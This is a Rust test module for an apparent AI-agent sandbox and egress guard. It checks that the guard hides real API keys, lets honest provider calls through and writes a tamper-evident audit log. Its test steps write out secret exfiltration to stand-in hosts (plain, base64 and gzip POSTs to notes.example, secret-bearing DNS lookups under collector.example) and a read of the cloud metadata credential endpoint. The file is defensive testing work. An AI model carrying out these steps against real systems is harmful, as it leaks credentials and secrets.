//! The steps: each does something inside and looks at what came of it at both ends.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use carboy_core::audit::{ChainKey, hex};
use carboy_sim::probe::{Order, Report};
use carboy_store::audit::{Integrity, Query, query, verify};

use super::TourError;
use super::stage::{Stage, StageError};
use crate::summary::Summary;

/// What a step saw.
pub(super) struct Seen {
    /// In words.
    pub lines: Vec<String>,
    kept: bool,
}

impl Seen {
    fn new() -> Seen {
        Seen { lines: Vec::new(), kept: true }
    }

    /// Notes one look: what was seen, and whether it is what was promised.
    fn look(&mut self, promised: bool, words: impl Into<String>) {
        let words = words.into();
        self.lines.push(if promised { words } else { format!("NOT AS PROMISED: {words}") });
        self.kept &= promised;
    }

    /// Did everything go as promised?
    pub fn ok(&self) -> bool {
        self.kept
    }
}

fn http(method: &str, url: &str, headers: &[(&str, &str)], body: Vec<u8>) -> Order {
    let headers: BTreeMap<String, String> = headers.iter().map(|(n, v)| ((*n).into(), (*v).into())).collect();
    Order::Http { method: method.into(), url: url.into(), headers, body, connect_to: None, sni: None }
}

/// Status and reason of a refusal, in the words that the agent saw.
fn refusal(report: &Report) -> (Option<&str>, String) {
    let reason = report.headers.get("x-carboy-reason").map(String::as_str);
    let words = match (report.status, reason, &report.error) {
        (Some(status), Some(reason), _) => format!("the agent got {status} {reason}"),
        (Some(status), None, _) => format!("the agent got {status}: {}", first_words(&report.body)),
        (None, _, Some(error)) => format!("the agent got an error: {error}"),
        (None, _, None) => "the agent got nothing".into(),
    };
    (reason, words)
}

fn first_words(text: &str) -> String {
    text.chars().take(80).map(|c| if c.is_control() { ' ' } else { c }).collect()
}

pub(super) async fn bottle(stage: &mut Stage) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    for name in ["ANTHROPIC_API_KEY", "OPENAI_API_KEY"] {
        let value = stage.order(&Order::Env { name: name.into() })?.value.unwrap_or_default();
        let real = [&stage.secrets.anthropic, &stage.secrets.openai].contains(&&value);
        seen.look(!real && value.contains(carboy_guard::PLACEHOLDER_MARK), format!("inside, {name} is `{value}`"));
    }
    let planted = stage.order(&Order::Env { name: "DEPLOY_TOKEN".into() })?.value;
    seen.look(planted.is_none(), "inside, DEPLOY_TOKEN is not set at all: no route needs it");
    Ok(seen)
}

pub(super) async fn model_calls(stage: &mut Stage) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    let anthropic = br#"{"model":"claude-simulated","max_tokens":64,"stream":true,"messages":[{"role":"user","content":"Say hello."}]}"#;
    let openai = br#"{"model":"gpt-simulated","stream":true,"messages":[{"role":"user","content":"Say hello."}]}"#;
    let fake = |name: &str| format!("{}-{name}", carboy_guard::PLACEHOLDER_MARK);
    let (fake_anthropic, fake_openai) = (fake("anthropic-api-key"), format!("Bearer {}", fake("openai-api-key")));
    let calls = [
        (
            "Anthropic",
            "https://api.anthropic.com/v1/messages",
            ("x-api-key", fake_anthropic.as_str()),
            &anthropic[..],
            "message_stop",
        ),
        (
            "OpenAI",
            "https://api.openai.com/v1/chat/completions",
            ("authorization", fake_openai.as_str()),
            &openai[..],
            "[DONE]",
        ),
    ];
    for (provider, url, fake, body, end) in calls {
        let version = ("anthropic-version", "2023-06-01");
        let headers: Vec<_> = match provider {
            "Anthropic" => vec![fake, version, ("content-type", "application/json")],
            _ => vec![fake, ("content-type", "application/json")],
        };
        let report = stage.order(&http("POST", url, &headers, body.to_vec()))?;
        let whole = report.status == Some(200) && report.body.contains(end);
        seen.look(
            whole,
            match report.status {
                Some(200) => {
                    format!("{provider}: 200, a stream of {} events to its end", report.body.matches("data:").count())
                }
                _ => refusal(&report).1,
            },
        );
        let received = stage.provider.received();
        let real = [&stage.secrets.anthropic, &stage.secrets.openai];
        let with_key = whole
            && received.last().is_some_and(|r| {
                real.iter().any(|key| r.contains(key.as_bytes()))
                    && !r.contains(carboy_guard::PLACEHOLDER_MARK.as_bytes())
            });
        seen.look(with_key, format!("{provider} received the real key and never saw the fake one"));
    }
    Ok(seen)
}

pub(super) async fn secret_out(stage: &mut Stage) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    let text = format!("notes for later: {}", stage.secrets.planted);
    let packed = gzip(text.as_bytes()).map_err(|source| StageError::System { what: "compress a text", source })?;
    let encoded = STANDARD.encode(&text).into_bytes();
    let before = stage.provider.requests();
    for (form, headers, body) in [
        ("plain", vec![], text.clone().into_bytes()),
        ("in base64", vec![], encoded),
        ("inside gzip", vec![("content-encoding", "gzip")], packed),
    ] {
        let report = stage.order(&http("POST", "https://notes.example/sink", &headers, body))?;
        let (reason, words) = refusal(&report);
        seen.look(reason == Some("secret_known"), format!("{form}: {words}"));
    }
    let arrived = stage.provider.requests() - before;
    seen.look(arrived == 0, format!("requests that reached notes.example: {arrived}"));
    let control = stage.order(&http("POST", "https://notes.example/sink", &[], b"an honest note".to_vec()))?;
    seen.look(control.status == Some(200), "an honest note to the same host goes through");
    Ok(seen)
}

fn gzip(text: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(text)?;
    encoder.finish()
}

pub(super) async fn unknown_host(stage: &mut Stage) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    let report = stage.order(&http("GET", "https://collector.example/", &[], Vec::new()))?;
    let (_, words) = refusal(&report);
    seen.look(report.status.is_none() && report.error.is_some(), format!("by name: {words}"));
    let order = Order::Http {
        method: "GET".into(),
        url: "https://collector.example/".into(),
        headers: BTreeMap::new(),
        body: Vec::new(),
        connect_to: Some(([203, 0, 113, 9], 443).into()),
        sni: None,
    };
    let report = stage.order(&order)?;
    let (reason, words) = refusal(&report);
    seen.look(reason.is_some(), format!("by address: {words}"));
    Ok(seen)
}

pub(super) async fn metadata(stage: &mut Stage) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    let url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
    let report = stage.order(&http("GET", url, &[], Vec::new()))?;
    let (reason, words) = refusal(&report);
    seen.look(reason == Some("address_not_allowed"), words);
    Ok(seen)
}

pub(super) async fn poisoned_page(stage: &mut Stage) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    let clean = stage.order(&http("GET", "https://notes.example/page/clean", &[], Vec::new()))?;
    seen.look(clean.status == Some(200), "a clean page from the same host arrives");
    let report = stage.order(&http("GET", "https://notes.example/page/poisoned", &[], Vec::new()))?;
    let (reason, words) = refusal(&report);
    seen.look(reason == Some("injection"), words);
    Ok(seen)
}

pub(super) async fn dns(stage: &mut Stage) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    let name = format!("{}.collector.example", hex(&stage.secrets.planted.as_bytes()[..24]));
    let report = stage.order(&Order::Dns { name, server: ([8, 8, 8, 8], 53).into() })?;
    let refused = report.rcode == Some(3) && report.answers == Some(0);
    seen.look(
        refused,
        match report.rcode {
            Some(3) => "the agent got NXDOMAIN; nothing was asked outside".to_owned(),
            Some(code) => format!("the agent got DNS code {code}"),
            None => refusal(&report).1,
        },
    );
    Ok(seen)
}

/// Reads the log of the tour: each promised refusal, the chain, and a copy with one byte changed.
pub(super) fn audit(log: &Path, ended: &Summary) -> Result<Seen, TourError> {
    let mut seen = Seen::new();
    let broken = |e: carboy_store::StoreError| StageError::Agent(e.to_string());
    for (reason, at_least) in
        [("secret_known", 3), ("name_not_allowed", 2), ("address_not_allowed", 2), ("injection", 1)]
    {
        let found = query(log, &Query { reason: Some(reason.into()), ..Query::default() }).map_err(broken)?.matched;
        seen.look(found >= at_least, format!("{found} × {reason}"));
    }
    let report = verify(log, &ChainKey::Plain, None).map_err(broken)?;
    let same = ended.audit_head == format!("{}:{}", report.head.seq, report.head.hash);
    seen.look(report.result == Integrity::Valid && same, format!("{} entries, VALID", report.entries));

    let system = |what| move |source| StageError::System { what, source };
    let mut bytes = std::fs::read(log).map_err(system("read the log"))?;
    // An entry in the middle is dated a thousand years later: still an entry, and still a date.
    const DATE: &[u8] = b"\"timestamp\":\"";
    let middle = bytes.len() / 2;
    let date = bytes[middle..].windows(DATE.len()).position(|found| found == DATE);
    bytes[date.map_or(middle, |date| middle + date + DATE.len())] ^= 1;
    let copy = log.with_file_name("changed-copy.jsonl");
    crate::home::write_private(&copy, &bytes).map_err(crate::supervisor::RunError::from)?;
    let changed = verify(&copy, &ChainKey::Plain, None).map_err(broken)?;
    seen.look(
        matches!(changed.result, Integrity::Tampered(_)),
        match changed.result {
            Integrity::Tampered(what) => format!("in a copy with one byte changed: TAMPERED, {what}"),
            Integrity::Valid => "a copy with one byte changed is called VALID".into(),
        },
    );
    Ok(seen)
}
